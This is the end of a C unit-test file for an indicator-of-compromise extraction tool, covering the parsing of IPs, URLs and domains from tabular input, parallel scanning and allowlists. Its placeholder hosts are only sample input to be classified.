	    "ipv4 198.51.100.7 1\n");
	free(got);
	/* a version's cell that holds a link or an IPv6 address: read */
	got = scan_columns("ip,version\n198.51.100.9,https://kb.evil-isp.com"
	    "/fw/2.1.0.12\n198.51.100.10,2001:db8::83\n");
	assert_string_equal(got, "ipv4 198.51.100.9 11 12\n"
	    "url https://kb.evil-isp.com/fw/2.1.0.12 24 35\n"
	    "domain kb.evil-isp.com 32 15\nipv4 198.51.100.10 60 13\n"
	    "ipv6 2001:db8::83 74 12\n|\n"
	    "ipv4 198.51.100.9 1\nurl https://kb.evil-isp.com/fw/2.1.0.12 1\n"
	    "domain kb.evil-isp.com 1\nipv4 198.51.100.10 1\n"
	    "ipv6 2001:db8::83 1\n");
	free(got);
	got = scan_columns("rdns\tip\nx.evil-isp.pl\t198.51.100.8\n");
	assert_string_equal(got, "domain x.evil-isp.pl 8 13\n"
	    "ipv4 198.51.100.8 22 12\n|\n"
	    "domain x.evil-isp.pl 1\nipv4 198.51.100.8 1\n");
	free(got);
}

/*
 * Workers reading parts in parallel (ioc_pool) give what one scanner
 * gives: same entries in the same order, with the same counts, first
 * offsets, defanged and allowlist marks. The parts (cut at line ends,
 * as ioc extract cuts them) are small, so that every worker reads many
 * and finds indicators another found in an earlier or a later part.
 */
static void
test_pool_merge(void **state)
{
	struct ioc_allowlist *al = ioc_allowlist_new();
	struct ioc_scanner *sc = ioc_scanner_new();
	struct ioc_set *one = ioc_set_new();
	struct against ag = { one, 0 };
	struct buf b = BUF_INIT;
	struct ioc_pool *pool;
	size_t at, want, cut, parts = 0, seen = 0;
	const char *nl;

	(void)state;
	assert_int_equal(nftw(TEST_DATA, gather, 16, FTW_PHYS), 0);
	assert_true(all.len > 1024 * 1024);
	assert_int_equal(ioc_allowlist_add(al, "example.com"), 0);
	assert_int_equal(ioc_allowlist_add(al, "192.0.2.0/24"), 0);
	pool = ioc_pool_new(3, al, NULL);
	assert_non_null(pool);
	for (at = 0; at < all.len; at += cut, parts++) {
		want = at + 16384 < all.len ? at + 16384 : all.len - 1;
		nl = memchr(all.data + want, '\n', all.len - want);
		cut = (nl ? (size_t)(nl - all.data) + 1 : all.len) - at;
		ioc_scan_into(sc, all.data + at, cut, at, one, al);
		buf_reset(&b);
		buf_add(&b, all.data + at, cut);
		buf_add(&b, "rest", 4);	/* what the reader has past it */
		ioc_pool_give(pool, &b, cut, at);
		assert_int_equal(b.len, 4);
		assert_memory_equal(b.data, "rest", 4);
	}
	assert_true(parts > 100);
	assert_int_equal(ioc_pool_each(pool, same_entry, &ag), 0);
	assert_int_equal(ag.i, ioc_set_count(one));
	assert_true(ag.i > 1000);
	/* a non-zero return stops it, and is returned */
	assert_int_equal(ioc_pool_each(pool, stop_at_three, &seen), 7);
	assert_int_equal(seen, 3);
	ioc_pool_free(pool);
	ioc_set_free(one);
	ioc_scanner_free(sc);
	ioc_allowlist_free(al);
	buf_release(&b);
	buf_release(&all);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_refang_corpus),
		cmocka_unit_test(test_refang_more),
		cmocka_unit_test(test_types),
		cmocka_unit_test(test_address_classes),
		cmocka_unit_test(test_idn),
		cmocka_unit_test(test_cjk),
		cmocka_unit_test(test_leader_dot),
		cmocka_unit_test(test_host_paths),
		cmocka_unit_test(test_unicode_marks),
		cmocka_unit_test(test_underscores_and_amp),
		cmocka_unit_test(test_spaced_defang),
		cmocka_unit_test(test_checksum_lines),
		cmocka_unit_test(test_other_values),
		cmocka_unit_test(test_phone_numbers),
		cmocka_unit_test(test_named_versions),
		cmocka_unit_test(test_advisory_releases),
		cmocka_unit_test(test_tcpdump),
		cmocka_unit_test(test_traceroutes),
		cmocka_unit_test(test_pasted_headers),
		cmocka_unit_test(test_whois_records),
		cmocka_unit_test(test_ranges),
		cmocka_unit_test(test_slashed_addresses),
		cmocka_unit_test(test_spaced_ranges),
		cmocka_unit_test(test_spaced_masks),
		cmocka_unit_test(test_file_tld_hosts),
		cmocka_unit_test(test_rule_references),
		cmocka_unit_test(test_spans),
		cmocka_unit_test(test_armor_across_parts),
		cmocka_unit_test(test_no_invention),
		cmocka_unit_test(test_masked_addresses),
		cmocka_unit_test(test_word_steps),
		cmocka_unit_test(test_token_cuts),
		cmocka_unit_test(test_many_tlds),
		cmocka_unit_test(test_keyed_values),
		cmocka_unit_test(test_other_schemes),
		cmocka_unit_test(test_folded_urls),
		cmocka_unit_test(test_wrapped_links),
		cmocka_unit_test(test_nested_links),
		cmocka_unit_test(test_context_makes_hosts),
		cmocka_unit_test(test_offsets_and_stop),
		cmocka_unit_test(test_range6_blocks),
		cmocka_unit_test(test_glued_schemes),
		cmocka_unit_test(test_line_cut),
		cmocka_unit_test(test_detection_names),
		cmocka_unit_test(test_code_or_prose),
		cmocka_unit_test(test_allowlist),
		cmocka_unit_test(test_allowlist_large),
		cmocka_unit_test(test_name_cache_restarts),
		cmocka_unit_test(test_name_cache_answers),
		cmocka_unit_test(test_set_matches_reference),
		cmocka_unit_test(test_set_long_values),
		cmocka_unit_test(test_memo_contexts),
		cmocka_unit_test(test_memo_counts),
		cmocka_unit_test(test_memo_asn),
		cmocka_unit_test(test_memo_wrapped),
		cmocka_unit_test(test_memo_encoded),
		cmocka_unit_test(test_memo_corpus),
		cmocka_unit_test(test_sets_each),
		cmocka_unit_test(test_pool_merge),
		cmocka_unit_test(test_columns),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
